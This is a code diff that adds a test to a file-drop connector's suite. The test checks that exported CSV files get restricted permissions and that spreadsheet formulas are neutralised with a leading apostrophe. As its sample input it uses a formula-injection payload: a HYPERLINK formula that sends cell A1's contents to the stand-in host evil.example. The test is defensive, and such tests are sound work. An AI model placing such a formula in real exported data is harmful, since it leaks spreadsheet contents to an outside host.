@@ -318,3 +318,16 @@ def test_configuration_defaults_and_folders(tmp_path: Path) -> None:
         FileDropConnector(
             {"name": "x", "type": "filedrop", "outbound": str(tmp_path), "inbound": str(tmp_path)}
         )
+
+
+def test_files_are_private_and_their_cells_never_run_as_formulas(tmp_path: Path) -> None:
+    c = connector(tmp_path)
+    formula = org_record(facts='=HYPERLINK("http://evil.example/?"&A1,"查看")', violation="+1-2")
+    assert c.push([item("c1", formula)]) == [PushResult("c1", True)]
+    path = only_file(c.outbound)
+    assert path.stat().st_mode & 0o777 == 0o640  # the owner writes, the exchange's group reads
+    _, [row] = csv_rows(path)
+    # Shown by a spreadsheet as the text it is, with nothing else changed.
+    assert row["CF_SY"] == '\'=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    assert row["CF_WFXW"] == "'+1-2"
+    assert row["CF_JDRQ"] == "2024-03-01"  # a date is no formula
